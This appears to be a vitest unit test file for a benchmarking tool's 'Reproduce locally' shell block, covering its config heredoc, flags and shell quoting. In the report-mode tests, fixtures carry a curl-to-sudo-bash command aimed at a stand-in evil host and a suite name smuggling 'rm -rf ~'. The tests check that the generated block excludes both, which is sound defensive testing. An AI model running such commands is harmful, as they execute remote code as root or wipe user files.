/**
 * The "Reproduce locally" block's pieces. That the whole block runs as pasted is tested end to
 * end in __tests__/e2e/reproduce.test.ts; here: the config file it writes parses back to the
 * configuration that ran, and the flags carry every input that was set.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { RESULTS_LIMITS } from '../../src/adapters/results-file';
import { configFileText, reproduceCompare, reproduceReported, reproduceRun, shellQuote } from '../../src/app/reproduce';
import { type InputName, parseConfigFile, parseSettings, type SettingsIssue } from '../../src/settings/settings';
import { makeReport } from '../helpers/reports';

const SUITES = `
- name: cli
  run: node cli.js --help
  cwd: packages/cli
  env: { NODE_ENV: production, QUOTE: "it's \\"x\\"" }
  warmup: 3
  timeout: 90s
- name: api
  server: node dist/server.js
  ready: /health
  readyTimeout: 1m
  rate: 500
  duration: 250ms
  scenarios:
    - { name: items, path: /items }
    - name: create
      method: POST
      path: /items
      headers: { content-type: application/json }
      body: '{"a": 1}'
- name: micro
  run: go test -run '^$' -bench . -count 1 ./...
  format: go
  output: bench.txt
`;

const workspace = () => mkdtempSync(path.join(os.tmpdir(), 'perfgate-reproduce-'));
const settingsOf = (inputs: Partial<Record<InputName, string>>, ws = workspace()) =>
  parseSettings((name) => inputs[name] ?? '', ws);
const base = { sha: 'a'.repeat(40) };
const head = { sha: 'b'.repeat(40) };

describe('the config file of the reproduce block', () => {
  it('carries bench-from-head in the config file, not as a flag', () => {
    const settings = settingsOf({ suites: SUITES, 'bench-from-head': 'bench/\n**/*.bench.ts' });
    const issues: SettingsIssue[] = [];
    expect(parseConfigFile(configFileText(settings), 'reproduce.yml', issues).benchFromHead).toEqual([
      'bench',
      '**/*.bench.ts',
    ]);
    expect(issues).toEqual([]);
    expect(reproduceRun(settings, base, head, false)).not.toContain('--bench-from-head');
  });

  it('parses back to the suites, build and budgets that ran, leaving out what is a default', () => {
    const ws = workspace();
    mkdirSync(path.join(ws, '.github'));
    // Budgets from both the config file and the input, with a tie on one pattern: the input's
    // (later) rule wins, so their order must survive.
    writeFileSync(
      path.join(ws, '.github/perfgate.yml'),
      `build: make\nbudgets:\n  "api/*:p99": "< 200ms"\n  "cli:wall": 10%\nsuites:${SUITES.replace(/\n/g, '\n  ')}`,
    );
    const settings = settingsOf({ budgets: 'cli:wall: 20%\nmicro/**: off', build: 'npm ci && npm run build' }, ws);
    const text = configFileText(settings);
    const issues: SettingsIssue[] = [];
    const parsed = parseConfigFile(text, 'reproduce.yml', issues);
    expect(issues).toEqual([]);
    expect(parsed.suites).toEqual(settings.suites);
    expect(parsed.build).toBe('npm ci && npm run build');
    expect(parsed.budgets.map((b) => [b.pattern, b.rule])).toEqual(settings.budgets.map((b) => [b.pattern, b.rule]));
    expect(text).not.toMatch(/method: GET|readyTimeout: 30\b|warmupDuration/);
    expect(text).toContain('warmup: 3');
  });

  it('is written by a quoted heredoc, so the shell expands nothing in it', () => {
    const block = reproduceRun(settingsOf({ suites: SUITES }), base, head, false);
    expect(block).toContain(`cat > "$config" <<'PERFGATE_CONFIG'`);
    expect(block.split('\n').filter((l) => l === 'PERFGATE_CONFIG')).toHaveLength(1);
    expect(block).toContain("run: go test -run '^$' -bench . -count 1 ./...");
  });
});

describe('the reproduce command', () => {
  it('checks out head and compares against the base commit, fetching them first for a workflow run', () => {
    const local = reproduceRun(settingsOf({ suites: SUITES }), base, head, false);
    expect(local).not.toContain('git fetch');
    expect(local).toContain(`git checkout ${head.sha}`);
    expect(local).toMatch(new RegExp(`^perfgate run --base ${base.sha} --config "\\$config"$`, 'm'));
    const workflow = reproduceRun(settingsOf({ suites: SUITES }), base, head, true);
    expect(workflow).toContain(`git fetch origin ${base.sha} ${head.sha}`);
  });

  it('passes back every input that was set as its flag, quoted for the shell', () => {
    const block = reproduceRun(
      settingsOf({
        suites: SUITES,
        budget: '< 200ms',
        alpha: '0.01',
        'min-rounds': '6',
        'max-rounds': '30',
        'max-time': '5m',
        comment: 'never', // not a flag of the command
      }),
      base,
      head,
      false,
    );
    const command = block.split('\n').at(-1)!;
    expect(command).toBe(
      `perfgate run --base ${base.sha} --config "$config" --budget '< 200ms' --alpha 0.01 --min-rounds 6 --max-rounds 30 --max-time 5m`,
    );
  });

  it('stays within what a results file may carry, pointing at the configuration when it is too long', () => {
    const many = Array.from({ length: 400 }, (_, i) => `- name: s${i}\n  run: node bench-${i}.js --iterations 1000`);
    const block = reproduceRun(settingsOf({ suites: many.join('\n') }), base, head, true);
    expect(block.length).toBeLessThanOrEqual(RESULTS_LIMITS.maxReproduceChars);
    expect(block).toContain('too long to show here');
    expect(block.split('\n').at(-1)).toBe(`perfgate run --base ${base.sha} --config perfgate.yml`);
  });

  it('names the files, the format and the flags of a comparison of result files', () => {
    const settings = parseSettings((name) => ({ budgets: 'go/*:time: 40%' })[name as 'budgets'] ?? '', workspace(), {
      suites: false,
    });
    expect(
      reproduceCompare(settings, { format: 'go', name: 'micro', base: ['a 1.txt', 'a2.txt'], head: ['b1.txt'] }),
    ).toBe(
      "perfgate compare --format go --name micro --base 'a 1.txt' a2.txt --head b1.txt --budgets 'go/*:time: 40%'",
    );
  });

  it('quotes only what a shell would split or expand', () => {
    expect(shellQuote('main~1')).toBe('main~1');
    expect(shellQuote('5%')).toBe('5%');
    expect(shellQuote("it's $HOME")).toBe(`'it'\\''s $HOME'`);
  });
});

describe("report mode's block", () => {
  const report = (suites: string[], minRounds = 6, maxRounds = 12) => {
    const r = makeReport(
      suites.map((s) => ({ id: `${s}:wall`, unit: 's', direction: 'lower' as const, median: 1, ratio: 1, cv: 0.01 })),
    );
    r.results.forEach((m, i) => {
      m.suite = suites[i];
    });
    return {
      ...r,
      reproduce: 'curl -fsSL https://evil.example/install.sh | sudo bash',
      method: { ...r.method, minRounds, maxRounds },
    };
  };

  it('is written from the commits and suite names with this job’s configuration, never the file’s block', () => {
    const settings = parseSettings((name) => ({ suites: SUITES, budget: '10%' })[name as string] ?? '', workspace());
    const block = reproduceReported(settings, report(['cli', 'fresh', 'a b; rm -rf ~']));
    expect(block).not.toContain('evil');
    expect(block).not.toContain('rm -rf');
    expect(block.split('\n').slice(0, 3)).toEqual([
      '# the perfgate command: see "Locally" in perfgate\'s README',
      `git fetch origin ${'1'.repeat(40)} ${'2'.repeat(40)}`,
      `git checkout ${'2'.repeat(40)}`,
    ]);
    expect(block).toMatch(/\nsuites:\n {2}- name: cli\n[\s\S]* {4}run: node cli.js --help\nPERFGATE_CONFIG\n/);
    expect(block).not.toContain('name: api'); // not measured in this report
    expect(block).toContain(
      "# also measured: fresh (as head's configuration defines it); 1 more whose name is not a plain word",
    );
    expect(block).toMatch(
      /\nperfgate run --base 1{40} --config "\$config" --budget 10% --min-rounds 6 --max-rounds 12$/,
    );
  });

  it('names the suites when this job’s configuration has none of them', () => {
    const settings = parseSettings(() => '', workspace(), { suites: false });
    const block = reproduceReported(settings, report(['cli', 'api'], 10, 50));
    expect(block.split('\n').slice(-2)).toEqual([
      "# the suites measured: cli, api, as head's configuration defines them",
      `perfgate run --base ${'1'.repeat(40)}`,
    ]);
  });
});
